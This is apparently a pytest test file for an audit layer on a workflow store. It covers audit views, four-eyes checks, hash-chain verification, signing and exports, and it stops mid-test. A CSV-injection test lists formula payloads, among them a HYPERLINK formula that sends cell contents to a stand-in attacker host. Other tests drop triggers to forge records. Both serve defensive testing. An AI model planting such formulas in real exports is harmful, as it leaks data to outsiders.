"""The history as evidence, and the questions that auditors ask: by the views, by the commands, and after a sweep."""

import asyncio
import csv
import io
import json
import math
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from inside import Command
from restpoint import Context, EventKind, ExecutionStore, Runner, workflow
from restpoint._core import timestamps
from restpoint._storage import audit_queries, history, verification
from restpoint._storage.hash_chain import Head, read_head
from restpoint._storage.sqlite import views
from restpoint._storage.sqlite.connection import reading
from restpoint.access import Actor
from restpoint.audit import export as exports
from restpoint.audit import reports, signing
from restpoint.errors import DamagedFile, FourEyes, InvalidArgument, NothingToExport, UnusableFile
from restpoint.prompts import HumanPromptBinary, HumanPromptText, HumanResponseBinary
from restpoint.service import Service
from runners import until
from served import TARGET, served, typed
from support import ADA, NO, PAIRS, PATIENCE, START, TEXT, YES, ManualClock, file_of, rows, sql

PAY = HumanPromptBinary(text="Pay?", options=[YES, NO])
SURE = HumanResponseBinary(selected_option=YES)
NEVER = HumanResponseBinary(selected_option=NO)
JOAN = Actor("joan", groups=frozenset({"finance", "board"}))
OPERATOR = Actor("op", roles=frozenset({"operator"}))

COLUMNS = {
    "audit_contract": "version",
    "execution_history": (
        "sequence execution_id event wait_id from_status to_status actor cause at at_ms detail digest"
    ),
    "answers": (
        "execution_id interaction_id answered_by answered_at answered_ms asked_at waited_ms prompt response sequence at at_ms"
        " workflow owner question position decision approved by_default assignees four_eyes authority actor_groups actor_roles"
        " comment"
    ),
    "approvals": (
        "sequence at at_ms execution_id workflow owner question decision approved approved_by authority by_default"
        " interaction_id comment"
    ),
    "execution_timeline": ("sequence at at_ms execution_id after_ms event status actor cause about wait_id detail"),
    "told": (
        "sequence at at_ms execution_id workflow owner outcome recipient channel route told interaction_id question opened_at"
        " answered_by answered_at answered_after_ms attempts notice"
    ),
    "answers_by_others": (
        "sequence at at_ms execution_id workflow owner question assignees answered_by authority actor_groups finding decision"
        " interaction_id"
    ),
    "response_times": "workflow position question answers min_ms p50_ms p90_ms p95_ms p99_ms max_ms",
    "default_answers": (
        "sequence at at_ms execution_id workflow owner question decision assignees waited_ms interaction_id"
    ),
    "recoveries": "sequence at at_ms execution_id workflow owner event status cause attempt error_code",
    "sweeps": "sequence at at_ms execution_id workflow owner how actor status ended_at",
    "four_eyes_violations": (
        "sequence at at_ms execution_id workflow owner question decision answered_by authority interaction_id"
    ),
    "file_changes": "sequence at at_ms event execution_id actor cause detail",
}


def told(path: Path, view: str) -> list[dict[str, Any]]:
    with sql(path) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute(f"SELECT * FROM {view}")]


def verdict(path: Path, *heads: Head) -> verification.Verdict:
    with reading(path) as connection:
        return verification.verify(connection, heads)


def exported(path: Path, form: exports.Format = "jsonl", **of: int) -> bytes:
    with reading(path) as connection:
        return b"".join(exports.Export(connection, exports.span(connection, **of), form))


def in_another_process(path: Path, last: int) -> dict[str, bytes]:
    """The exports in each form, as another process writes them."""
    script = (
        "import sys; from pathlib import Path; from restpoint.audit import export as exports\n"
        "from restpoint._storage.sqlite.connection import reading\n"
        "with reading(Path(sys.argv[1])) as c:\n"
        "    for form in exports.FORMATS:\n"
        "        with Path(sys.argv[3], form).open('wb') as out:\n"
        "            out.writelines(exports.Export(c, exports.span(c, first=2, last=int(sys.argv[2])), form))"
    )
    command = [sys.executable, "-c", script, str(path), str(last), str(path.parent)]
    subprocess.run(command, capture_output=True, check=True, timeout=PATIENCE)
    return {form: path.with_name(form).read_bytes() for form in exports.FORMATS}


async def asked(store: ExecutionStore, prompt: Any = PAY, owner: str | None = "ada", **terms: Any) -> tuple[str, str]:
    record = await store.create_execution(workflow="refund", owner=owner, actor="ada")
    pending = await store.set_interaction_required(record.execution_id, prompt, **terms)
    return record.execution_id, pending.interaction_id


async def a_busy_week(store: ExecutionStore, clock: ManualClock) -> None:
    service = Service(store)
    ids = await asked(store, assignees=["group:finance"], four_eyes=True)
    clock.step(60)
    await service.answer(JOAN, *ids, SURE)
    await store.set_completed(ids[0], {"refunded": True})
    ids = await asked(store, assignees=["group:finance", "bob"])
    clock.step(300)
    await service.answer(OPERATOR, *ids, NEVER)
    await store.set_failed(ids[0], "refused", code="refused")
    ids = await asked(store, assignees=["bob"], timeout=100, default=SURE)
    clock.step(101)
    await store.cleanup_expired()
    with pytest.raises(ValueError, match="already been resolved"):
        await store.resolve_interaction(*ids, NEVER)
    ids = await asked(store, TEXT)
    await service.answer(Actor("ada"), *ids, ADA)
    await store.cancel(ids[0], "enough", actor="ada")
    await store.remove(ids[0], actor="op")


# --- The contract ------------------------------------------------------------------------------------------------------


def test_the_views_are_those_that_are_promised(fresh: Path) -> None:
    found = {name for (name,) in rows(fresh, "SELECT name FROM sqlite_master WHERE type = 'view'")}
    assert found == {*COLUMNS, "open_waits"} == set(views.VIEWS)
    with sql(fresh) as connection:
        for view, columns in COLUMNS.items():
            named = [column[0] for column in connection.execute(f"SELECT * FROM {view}").description]
            assert named[: len(columns.split())] == columns.split(), f"columns are only added, at the end of {view}"
    assert rows(fresh, "SELECT version FROM audit_contract") == [(views.CONTRACT,)] == [(1,)]


async def test_every_question_is_answered_the_same_after_the_sweep_and_from_the_same_bytes(
    store: ExecutionStore, path: Path, clock: ManualClock
) -> None:
    await a_busy_week(store, clock)
    last = rows(path, "SELECT max(sequence) FROM history")[0][0]
    asked_of = [view for view in COLUMNS if view not in {"sweeps", "execution_timeline", "execution_history"}]
    before = {view: told(path, view) for view in asked_of}
    taken = {form: exported(path, form, first=2, last=last) for form in exports.FORMATS}
    clock.step(100_000)
    assert await store.cleanup_expired() == 2
    with sql(path) as connection:
        connection.execute("VACUUM")
    assert {view: told(path, view) for view in asked_of} == before
    assert {form: exported(path, form, first=2, last=last) for form in exports.FORMATS} == taken
    assert in_another_process(path, last) == taken
    assert verdict(path).holds


# --- The questions -----------------------------------------------------------------------------------------------------


async def test_who_approved_what_and_on_whose_authority(store: ExecutionStore, path: Path, clock: ManualClock) -> None:
    await a_busy_week(store, clock)
    found = told(path, "approvals")
    assert [(row["approved_by"], row["decision"], row["approved"], row["authority"]) for row in found] == [
        ("joan", "Yes", 1, "group:finance"),
        ("op", "No", 0, "operator"),
        (None, "Yes", 1, None),
    ]
    assert [row["by_default"] for row in found] == [0, 0, 1]
    assert {(row["workflow"], row["owner"], row["question"]) for row in found} == {("refund", "ada", "Pay?")}
    answers = told(path, "answers")
    assert [row["authority"] for row in answers] == ["group:finance", "operator", None, "owner"]
    assert (answers[0]["actor_groups"], answers[1]["actor_roles"]) == ('["board","finance"]', '["operator"]')
    assert answers[3]["decision"] == "Ada"


async def test_what_was_decided_in_a_form_is_told_in_words(store: ExecutionStore, path: Path) -> None:
    fields = {
        "amount": {"type": "integer"},
        "urgent": {"type": "boolean"},
        "tags": {"type": "array", "items": {"type": "string", "enum": ["x", "y"]}},
    }
    form = {
        "input_type": "form",
        "text": "What shall be refunded?",
        "requested_schema": {"type": "object", "properties": fields},
        "actions": ["submit", "decline"],
    }
    record = await store.create_execution()
    given: dict[str, dict[str, Any]] = {
        "a": {"action": "submit", "content": {"amount": 3, "urgent": True, "tags": ["x", "y"]}},
        "b": {"action": "decline", "comment": "not mine"},
    }
    for one, response in given.items():
        await store.set_interaction_required(record.execution_id, form, one)
        await store.resolve_interaction(record.execution_id, one, {"type": "form", **response})
    assert [(row["decision"], row["approved"], row["comment"]) for row in told(path, "approvals")] == [
        ('amount: 3, urgent: yes, tags: ["x","y"]', None, None),
        ("declined", 0, "not mine"),
    ]


async def test_who_answered_instead_of_whom(store: ExecutionStore, path: Path) -> None:
    for actor in (Actor("bob"), JOAN, OPERATOR, Actor("eve", groups=frozenset({"sales"})), "eve", "bob", None):
        await store.resolve_interaction(*await asked(store, assignees=["group:finance", "bob"]), SURE, actor=actor)
    ids = await asked(store, assignees=["bob"])
    await store.resolve_interaction(*ids, SURE, actor="eve")
    await Service(store).answer(OPERATOR, *await asked(store, assignees=["bob"]), SURE)
    found = [(row["answered_by"], row["finding"].partition(":")[0]) for row in told(path, "answers_by_others")]
    assert found == [
        ("op", "not an assignee, and in none of the groups"),
        ("eve", "not an assignee, and in none of the groups"),
        ("eve", "cannot be said"),
        (None, "cannot be said"),
        ("eve", "not an assignee"),
        ("op", "an operator stepped in"),
    ]


async def test_how_long_people_took(store: ExecutionStore, path: Path, clock: ManualClock) -> None:
    waited = [7, 1, 30, 4, 4, 90, 2, 11, 5, 60, 3]
    for seconds in waited:
        ids = await asked(store)
        clock.step(seconds)
        await store.resolve_interaction(*ids, SURE)
    (row,) = told(path, "response_times")
    for percent in (50, 90, 95, 99):
        nearest = sorted(waited)[math.ceil(percent / 100 * len(waited)) - 1]
        assert row[f"p{percent}_ms"] == nearest * 1000
    assert (row["answers"], row["min_ms"], row["max_ms"]) == (11, 1_000, 90_000)
    with reading(path) as connection:
        within = reports.Filters(since=START, until=START + 40_000)
        (some,) = reports.answers(connection, "response-times", within)
        assert (some["answers"], some["max_ms"]) == (3, 30_000)
        assert list(reports.answers(connection, "response-times", reports.Filters(workflow="other"))) == []


async def test_what_fell_due_was_recovered_swept_and_removed(
    store: ExecutionStore, path: Path, clock: ManualClock
) -> None:
    await a_busy_week(store, clock)
    (default,) = told(path, "default_answers")
    assert (default["decision"], default["assignees"], default["waited_ms"]) == ("Yes", '["bob"]', 101_000)
    await store.create_execution(workflow="import")
    await store.close()
    with sql(path) as connection:
        connection.execute("DELETE FROM leases")
    async with ExecutionStore(database=path, clock=clock) as again:
        await again.recover()
        clock.step(100_000)
        await again.cleanup_expired()
    found = [(row["workflow"], row["event"], row["error_code"]) for row in told(path, "recoveries")]
    assert ("import", "execution_failed", "interrupted_by_restart") in found
    swept = [(row["how"], row["status"], row["workflow"]) for row in told(path, "sweeps")]
    assert sorted(swept) == [
        ("removed", "cancelled", "refund"), ("swept", "completed", "refund"), ("swept", "failed", "import"),
        ("swept", "failed", "refund"), ("swept", "failed", "refund"),
    ]  # fmt: skip


async def test_four_eyes_are_refused_where_nobody_can_tell_two_people_apart(store: ExecutionStore) -> None:
    """Whoever uses a server without tokens is ``local``, who may be the very person that the file knows by name."""
    for owner, actor in (("local", "ada"), ("ada", "local"), ("local", "local")):
        ids = await asked(store, owner=owner, assignees=["ada", "local"], four_eyes=True)
        with pytest.raises(FourEyes, match="--tokens-file"):
            await store.resolve_interaction(*ids, SURE, actor=actor)
        for someone in (Actor(actor), Actor(actor, roles=frozenset({"operator"}))):
            with pytest.raises(FourEyes, match="--tokens-file"):
                await Service(store).answer(someone, *ids, SURE)
    one = await asked(store, owner="local", assignees=["local"])
    await store.resolve_interaction(*one, SURE, actor="local")


async def test_four_eyes_cannot_be_had_by_two(store: ExecutionStore, path: Path) -> None:
    ids = await asked(store, four_eyes=True)
    for actor in ("ada", Actor("ada"), None, Actor("ada", roles=frozenset({"operator"}))):
        with pytest.raises(FourEyes):
            await store.resolve_interaction(*ids, SURE, actor=actor)
    with sql(path) as connection, pytest.raises(sqlite3.IntegrityError, match="illegal transition"):
        connection.execute(
            "UPDATE interactions SET status = 'answered', response = '{}', closed_at = 1, answered_by = 'ada'"
        )
    await store.resolve_interaction(*ids, SURE, actor="grace")
    await store.resolve_interaction(*await asked(store, four_eyes=True, owner=None), SURE)
    assert told(path, "four_eyes_violations") == []
    with unguarded(path) as connection:
        connection.execute("UPDATE history SET actor = 'ada' WHERE actor = 'grace'")
    assert [row["answered_by"] for row in told(path, "four_eyes_violations")] == ["ada"], "the view would show one"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "'=1",
        "\uff1d1",
        "'quoted'",
    ],
)
async def test_no_text_of_an_exported_table_is_a_formula(store: ExecutionStore, path: Path, text: str) -> None:
    """OWASP, CSV Injection (CWE-1236)."""
    record = await store.create_execution(actor=text)
    await store.cancel(record.execution_id, text, actor="ada")
    table = list(csv.DictReader(io.StringIO(exported(path, "csv").decode(), newline="")))
    assert [row["actor"] for row in table[-2:]] == [f"'{text}", "ada"]
    assert table[-1]["cause"] == f"'{text}"
    lines = [json.loads(line) for line in exported(path, "jsonl").splitlines()]
    assert lines[-1]["cause"] == text
    with reading(path) as connection:
        for form in exports.FORMATS:
            export = exports.Export(connection, exports.span(connection), form)
            assert all(export)
            assert ("formulas" in export.manifest()) == (form == "csv")


async def test_a_timeline_ends_with_the_sweep(
    store: ExecutionStore, path: Path, clock: ManualClock, restpoint: Command
) -> None:
    await a_busy_week(store, clock)
    first = rows(path, "SELECT execution_id FROM history WHERE sequence = 1")[0][0]
    clock.step(100_000)
    await store.cleanup_expired()
    ran = restpoint("audit", "timeline", first, "-o", "json")
    assert ran.returncode == 0
    found = json.loads(ran.stdout)
    assert [row["event"] for row in found] == [
        "execution_created", "interaction_asked", "interaction_answered", "execution_completed", "swept",
    ]  # fmt: skip
    assert [row["about"] for row in found] == [None, "Pay?", "Yes", None, "time to live"]
    assert found[2]["after_ms"] == 60_000
    assert restpoint("audit", "timeline", "nothing").returncode == 3


async def test_the_history_is_asked_by_actor_time_event_status_and_workflow(
    store: ExecutionStore, path: Path, clock: ManualClock, restpoint: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_queries, "WINDOW", 3)
    await a_busy_week(store, clock)

    def found(*options: str) -> list[int]:
        ran = restpoint("audit", "query", *options, "-o", "jsonl")
        assert ran.returncode == 0, ran.stderr
        return [json.loads(line)["sequence"] for line in ran.stdout.splitlines()]

    last = rows(path, "SELECT max(sequence) FROM history")[0][0]
    assert found() == list(range(1, last + 1))
    assert found("--limit", "4", "--after", "2") == [3, 4, 5, 6]
    for column, option, value in (
        ("actor", "--actor", "op"), ("event", "--event", "interaction_asked"), ("to_status", "--status", "failed"),
    ):  # fmt: skip
        wanted = rows(path, f"SELECT sequence FROM history WHERE {column} = ? ORDER BY sequence", value)
        assert wanted
        assert found(option, value) == [row[0] for row in wanted]
    assert found("--workflow", "none") == []
    assert len(found("--workflow", "refund")) == last
    day = "2027-01-15"
    assert found("--from", day, "--to", day) == found()
    assert found("--to", "2027-01-14") == []
    assert found("--from", f"{day}T08:01:00Z", "--to", f"{day}T08:06:00+00:00") == [3, 4, 5, 6]
    assert restpoint("audit", "query", "--from", "yesterday").returncode == 2
    assert restpoint("audit", "query", "--status", "done").returncode == 2
    wrong = restpoint("audit", "query", "--event", "interaction_answred")
    assert (wrong.returncode, wrong.stdout) == (2, ""), "that there is none would be no answer"
    assert "interaction_answred" in wrong.stderr


async def test_the_report_answers_every_question_in_every_form(
    store: ExecutionStore, clock: ManualClock, restpoint: Command
) -> None:
    await a_busy_week(store, clock)
    as_json = json.loads(restpoint("audit", "report", "-o", "json").stdout)
    assert list(as_json) == list(reports.QUESTIONS)
    lines = [json.loads(line) for line in restpoint("audit", "report", "-o", "jsonl").stdout.splitlines()]
    for name, answers in as_json.items():
        assert [line for line in lines if line["asked"] == name] == [{"asked": name, **row} for row in answers]
    shown = restpoint("audit", "report").stdout
    for question in reports.QUESTIONS.values():
        assert question.title in shown
    assert "joan" in restpoint("audit", "report", "approvals").stdout
    assert restpoint("audit", "report", "approvals", "--workflow", "other").stdout == "none\n"
    assert restpoint("audit", "report", "everything").returncode == 2


async def test_every_report_and_the_history_are_narrowed_to_one_execution(
    store: ExecutionStore, path: Path, clock: ManualClock, restpoint: Command
) -> None:
    await a_busy_week(store, clock)
    await store.erase_person("joan")
    every = json.loads(restpoint("audit", "report", "-o", "json").stdout)
    ids = [row[0] for row in rows(path, "SELECT DISTINCT execution_id FROM history WHERE execution_id IS NOT NULL")]
    assert len(ids) > 2
    found = {each: json.loads(restpoint("audit", "report", "--execution", each, "-o", "json").stdout) for each in ids}
    for name, answers in every.items():
        if name == "response-times":
            assert sum(row["answers"] for row in answers) == sum(
                row["answers"] for each in ids for row in found[each][name]
            )
            continue
        for each in ids:
            assert found[each][name] == [row for row in answers if row["execution_id"] == each]
    (told,) = {row[0] for row in rows(path, "SELECT execution_id FROM history WHERE sequence = 1")}
    asked = restpoint("audit", "query", "--execution", told[-12:], "-o", "jsonl").stdout.splitlines()
    wanted = rows(path, "SELECT sequence FROM history WHERE execution_id = ? ORDER BY sequence", told)
    assert [json.loads(line)["sequence"] for line in asked] == [row[0] for row in wanted]
    assert restpoint("audit", "report", "told", "--execution", "nothing").returncode == 3


@pytest.mark.parametrize(
    ("text", "first", "after"),
    [
        ("1970-01-01", 0, 86_400_000),
        ("1970-01-01T00:00:01.5Z", 1_500, 1_500),
        ("1970-01-01T02:00:00+02:00", 0, 0),
        ("9999-12-31", 253_402_214_400_000, 253_402_300_800_000),
        ("0001-01-01T00:00:00+23:59", -62_135_683_140_000, -62_135_683_140_000),
    ],
)
def test_times_are_read_as_they_are_typed(text: str, first: int, after: int) -> None:
    assert (timestamps.since(text), timestamps.until(text)) == (first, after)


# --- Evidence ----------------------------------------------------------------------------------------------------------


@contextmanager
def unguarded(path: Path) -> Iterator[sqlite3.Connection]:
    """As someone with the file and no respect for triggers would."""
    with sql(path) as connection:
        connection.execute("BEGIN IMMEDIATE")
        for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            connection.execute(f"DROP TRIGGER {name}")
        connection.execute("COMMIT")
        connection.execute("PRAGMA foreign_keys = OFF")
        yield connection


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def with_a_hold(fresh: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file after a busy week, with a prompt that is open and an execution that is held, which nobody has open."""
    path = tmp_path_factory.mktemp("held") / "restpoint.db"
    shutil.copyfile(fresh, path)
    clock = ManualClock()
    async with ExecutionStore(database=path, clock=clock) as store:
        await a_busy_week(store, clock)
        await asked(store, assignees=["bob"], four_eyes=True, timeout=60, on_deadline="fail")
        held, _ = await asked(store)
        await store.cancel(held)
        await store.hold(held, "an audit")
    assert verdict(path).holds
    return path


async def test_verification_says_which_row_what_is_wrong_and_what_that_means(
    store: ExecutionStore, path: Path, clock: ManualClock, restpoint: Command
) -> None:
    await a_busy_week(store, clock)
    ran = restpoint("audit", "verify")
    assert ran.returncode == 0
    assert ran.stdout.splitlines()[1].split()[1] == restpoint("audit", "head").stdout.strip()
    with unguarded(path) as connection:
        connection.execute("UPDATE history SET detail = replace(detail, 'Yes', 'No!') WHERE sequence = 3")
    ran = restpoint("audit", "verify")
    assert ran.returncode == 1
    assert "row 3: The detail of row 3 is not the one that was hashed." in ran.stdout
    found = json.loads(restpoint("audit", "verify", "-o", "json").stdout)
    assert (found["holds"], found["findings"][0]["problem"]) == (False, "detail_altered")
    ran = restpoint("audit", "export")
    assert ran.returncode == 5, "what is not what was written is not exported"
    assert "row 3" in ran.stderr


@pytest.mark.parametrize(
    ("statement", "problem"),
    [
        ("UPDATE executions SET status = 'cancelled' WHERE status = 'failed'", "status_differs"),
        ("UPDATE executions SET status = 'running', completed_at = NULL, expires_at = NULL WHERE status = 'failed'",
         "status_differs"),
        ("UPDATE interactions SET answered_by = 'eve' WHERE answered_by = 'joan'", "wait_differs"),
        ("UPDATE interactions SET response = replace(response, 'Yes', 'No') WHERE answered_by = 'joan'", "payload_differs"),
        ("UPDATE interactions SET prompt = replace(prompt, 'Pay', 'Play')", "payload_differs"),
        ("UPDATE executions SET error = 'paid' WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET workflow = 'gift' WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET owner = NULL WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET created_at = created_at + 1 WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET completed_at = completed_at + 1 WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET error = NULL WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET error_code = 'paid' WHERE status = 'failed'", "payload_differs"),
        ("UPDATE executions SET result = '{}' WHERE status = 'completed'", "payload_differs"),
        ("UPDATE executions SET hold = 'forged'", "hold_differs"),
        ("UPDATE executions SET hold = NULL WHERE hold IS NOT NULL", "hold_differs"),
        ("UPDATE interactions SET assignees = NULL WHERE status = 'pending'", "payload_differs"),
        ("UPDATE interactions SET assignees = '[\"eve\"]' WHERE status = 'pending'", "payload_differs"),
        ("UPDATE interactions SET four_eyes = NULL WHERE status = 'pending'", "payload_differs"),
        ("UPDATE interactions SET deadline_at = 1 WHERE status = 'pending'", "payload_differs"),
        ("UPDATE interactions SET deadline_at = NULL WHERE status = 'pending'", "payload_differs"),
        ("UPDATE interactions SET on_deadline = 'default' WHERE status = 'pending'", "payload_differs"),
        ("DELETE FROM interactions WHERE status = 'pending'", "wait_differs"),
        ("DELETE FROM interactions WHERE answered_by = 'joan'", "wait_differs"),
        ("UPDATE interactions SET status = 'withdrawn', closed_at = 1 WHERE status = 'pending'", "wait_differs"),
        ("DELETE FROM executions WHERE status = 'interaction_required'", "execution_missing"),
    ],
)  # fmt: skip
def test_what_the_tables_say_is_compared_with_the_history(
    with_a_hold: Path, path: Path, statement: str, problem: str
) -> None:
    shutil.copyfile(with_a_hold, path)
    with unguarded(path) as connection:
        assert connection.execute(statement).rowcount > 0
    found = verdict(path)
    assert problem in [finding.problem for finding in found.findings]
    assert found.findings[0].sequence is None


@workflow
async def pay(ctx: Context, order: dict[str, Any]) -> str:
    """Shows what it was told to pay, and asks."""
    paid = await ctx.step(lambda: f"100 EUR to {order['to']}", name="price")
    await ctx.emit({"amount": 100, "to": order["to"]})
    await ctx.notify(f"{paid} are due")
    await ctx.ask(HumanPromptText(text="Pay?"))
    return paid


FORGED = (
    "UPDATE executions SET owner = 'zoe'",
    "UPDATE executions SET workflow = 'gift'",
    "UPDATE executions SET priority = 9",
    "UPDATE interactions SET deadline_at = 1",
    "UPDATE runs SET input = replace(input, 'ada', 'mallory')",
    "UPDATE runs SET version = 2",
    "UPDATE journal SET result = replace(result, '100', '9999') WHERE kind = 'step'",
    "UPDATE journal SET result = replace(result, '100', '9999') WHERE kind = 'emit'",
    "UPDATE journal SET result = replace(result, '100', '9999') WHERE kind = 'notify'",
)


async def a_paused_run(store: ExecutionStore) -> None:
    async with Runner(store, [pay], hold_paused_for=0) as runner:
        record = (await runner.start("pay", {"to": "ada"}, owner="ada", actor="ada")).record
        await until(record, lambda: record.status == "interaction_required")
    await store.close()


@pytest.mark.parametrize("statement", FORGED)
async def test_what_decides_who_may_do_what_and_what_was_recorded_is_never_changed(
    store: ExecutionStore, path: Path, statement: str
) -> None:
    await a_paused_run(store)
    with sql(path) as connection, pytest.raises(sqlite3.IntegrityError, match="stays"):
        connection.execute(statement)
    assert verdict(path).holds


@pytest.mark.parametrize(
    ("statement", "what"),
    [
        (FORGED[0], "The workflow or owner or priority or created_at of execution"),
        (FORGED[4], "The input of execution"),
        ("DELETE FROM runs", "The input of execution"),
        (FORGED[7], "The emitted at position"),
        (FORGED[8], "The notified at position"),
        ("DELETE FROM journal WHERE kind = 'emit'", "The emitted at position"),
    ],
)
async def test_what_a_run_was_given_and_what_it_showed_is_compared_with_the_history(
    store: ExecutionStore, path: Path, statement: str, what: str
) -> None:
    await a_paused_run(store)
    assert verdict(path).holds
    with unguarded(path) as connection:
        assert connection.execute(statement).rowcount == 1
    finding, *inboxes = verdict(path).findings
    assert finding.problem == "payload_differs"
    assert finding.what.startswith(what)
    # Of another owner the prompt is in the wrong inbox, too.
    assert {each.problem for each in inboxes} == ({"assignment_differs"} if "owner" in statement else set())


async def test_an_owner_who_got_round_four_eyes_is_reported(store: ExecutionStore, path: Path) -> None:
    """The owner is another one while the answer is given, and is put back, with no trigger in force."""
    execution_id, interaction_id = await asked(store, assignees=["ada", "bob"], four_eyes=True)
    honest = await asked(store, assignees=["ada", "bob"], four_eyes=True)
    by_default = await asked(store, assignees=["bob"], four_eyes=True, timeout=1, default=SURE)
    await store.resolve_interaction(*honest, SURE, actor="bob")
    with unguarded(path) as connection:
        connection.execute("UPDATE executions SET owner = 'zoe' WHERE id = ?", (execution_id,))
    await store.resolve_interaction(execution_id, interaction_id, SURE, actor="ada")
    with unguarded(path) as connection:
        connection.execute("UPDATE executions SET owner = 'ada' WHERE id = ?", (execution_id,))
    for removed in (False, True):
        # No trigger took the prompt out of the inboxes, either.
        finding, *inboxes = sorted(verdict(path).findings, key=lambda each: each.problem != "four_eyes_violated")
        assert {each.problem for each in inboxes} == {"assignment_differs"}
        assert finding.problem == "four_eyes_violated"
        assert interaction_id in finding.what
        assert "its owner, ada" in finding.what
        if not removed:
            for each in (execution_id, honest[0], by_default[0]):
                await store.remove(each)


async def test_a_report_and_the_views_show_the_comment_of_an_answer(
    store: ExecutionStore, path: Path, restpoint: Command
) -> None:
    ids = await asked(store)
    body = {"type": "binary_choice", "selected_option": "yes", "comment": "Only after Friday"}
    await store.resolve_interaction(*ids, body, actor="ada")
    assert [row["comment"] for row in told(path, "answers")] == ["Only after Friday"]
    assert [row["comment"] for row in told(path, "approvals")] == ["Only after Friday"]
    assert "Only after Friday" in restpoint("audit", "report", "approvals").stdout


async def test_a_digest_history_is_compared_too(path: Path, fresh: Path, clock: ManualClock) -> None:
    shutil.copyfile(fresh, path)
    async with ExecutionStore(database=path, clock=clock, history="digest") as store:
        await a_busy_week(store, clock)
    assert verdict(path).holds
    assert [row["decision"] for row in told(path, "approvals")] == [None] * 4, "only what was said is missing"
    with unguarded(path) as connection:
        connection.execute(
            "UPDATE interactions SET response = replace(response, 'Yes', 'No') WHERE answered_by = 'joan'"
        )
        connection.execute("UPDATE executions SET error = 'paid' WHERE status = 'failed'")
    assert [finding.problem for finding in verdict(path).findings] == ["payload_differs"] * 2


async def test_a_head_that_retention_has_passed_proves_nothing_and_a_later_one_does(
    path: Path, fresh: Path, clock: ManualClock, restpoint: Command
) -> None:
    shutil.copyfile(fresh, path)
    async with ExecutionStore(database=path, clock=clock, history_retention_seconds=50) as store:
        for _ in range(3):
            ids = await asked(store)
            await store.resolve_interaction(*ids, SURE, actor="joan")
            await store.set_completed(ids[0], None)
        early = restpoint("audit", "head").stdout.strip()
        clock.step(1_000)
        await store.cleanup_expired()
        await store.cleanup_expired()
        anchor = rows(path, "SELECT sequence FROM history_anchor")[0][0]
        assert anchor >= 12
    assert restpoint("audit", "verify").returncode == 0
    told_of = f"Rows up to {anchor} have left the file by retention; this does not tell of them.\n"
    ran = restpoint("audit", "report", "four-eyes")
    assert (ran.stdout, ran.stderr) == ("none\n", told_of), "there may have been some"
    for command in (("report",), ("query",), ("query", "--after", "3")):
        assert restpoint("audit", *command).stderr == told_of
    assert restpoint("audit", "query", "--after", str(anchor)).stderr == ""
    late = restpoint("audit", "head").stdout.strip()
    ran = restpoint("audit", "verify", "--head", early)
    if anchor == 12:
        assert ran.returncode == 0, "the anchor is that very row"
    else:
        assert "has left the file by retention" in ran.stdout
    assert restpoint("audit", "verify", "--head", late).returncode == 0
    ran = restpoint("audit", "export", "--first", "1")
    assert ran.returncode == 2
    assert f"from row {anchor + 1} on" in ran.stderr
    assert restpoint("audit", "export", "--from", "2020-01-01", "--to", "2020-01-31").returncode == 3


async def test_several_heads_tell_between_which_a_history_was_written_anew(
    store: ExecutionStore, path: Path, clock: ManualClock
) -> None:
    await a_busy_week(store, clock)
    await store.close()
    every = rows(path, "SELECT sequence, digest FROM history ORDER BY sequence")
    heads = [Head(*every[index]) for index in (1, 5, 9)]
    with unguarded(path) as connection:
        names = "sequence, execution_id, event, wait_id, from_status, to_status, actor, cause, time, detail_sha256"
        previous = every[2][1]
        connection.execute("UPDATE history SET actor = 'eve' WHERE sequence = 4")
        for row in connection.execute(f"SELECT {names} FROM history WHERE sequence > 3").fetchall():
            previous = history.row_digest(previous, row[:9], row[9])
            connection.execute("UPDATE history SET digest = ? WHERE sequence = ?", (previous, row[0]))
    assert verdict(path).holds, "nothing in the file can tell"
    found = verdict(path, *heads).findings
    assert [(finding.problem, finding.sequence) for finding in found] == [("head_differs", 6), ("head_differs", 10)]
    assert "after row 2" in found[0].meaning


async def test_what_is_signed_is_checked(
    store: ExecutionStore, tmp_path: Path, clock: ManualClock, restpoint: Command
) -> None:
    await a_busy_week(store, clock)
    assert restpoint("audit", "keygen", "audit.key").returncode == 0
    assert restpoint("audit", "keygen", "other.key").returncode == 0
    assert (tmp_path / "audit.key").stat().st_mode & 0o777 == 0o600
    assert restpoint("audit", "keygen", "audit.key").returncode == 5, "no key is written over"
    head = restpoint("audit", "head", "--key", "audit.key").stdout.strip()
    assert head == restpoint("audit", "head", "--key", "audit.key").stdout.strip(), "the same every time"
    check = ("audit", "verify", "--public-key", "audit.key.pub")
    assert restpoint(*check, "--head", head).returncode == 0
    assert restpoint("audit", "verify", "--head", head).returncode == 0
    assert restpoint(*check, "--head", ":".join(head.split(":")[:2])).returncode == 1, "no signature"
    number, digest, *signature = head.split(":")
    assert restpoint(*check, "--head", ":".join((number, digest[::-1], *signature))).returncode == 1
    assert restpoint("audit", "verify", "--public-key", "other.key.pub", "--head", head).returncode == 1
    assert restpoint(*check).returncode == 2, "nothing to check"
    assert restpoint("audit", "verify", "--head", "7").returncode == 1
    assert restpoint("audit", "head", "--key", "audit.key.pub").returncode == 2
    (tmp_path / "audit.key").chmod(0o644)
    assert "chmod 600" in restpoint("audit", "head", "--key", "audit.key").stderr


@pytest.mark.parametrize("form", exports.FORMATS)
async def test_an_export_is_checked_without_the_file(
    store: ExecutionStore, tmp_path: Path, clock: ManualClock, restpoint: Command, form: str
) -> None:
    await a_busy_week(store, clock)
    restpoint("audit", "keygen", "audit.key")
    name = f"taken.{form}"
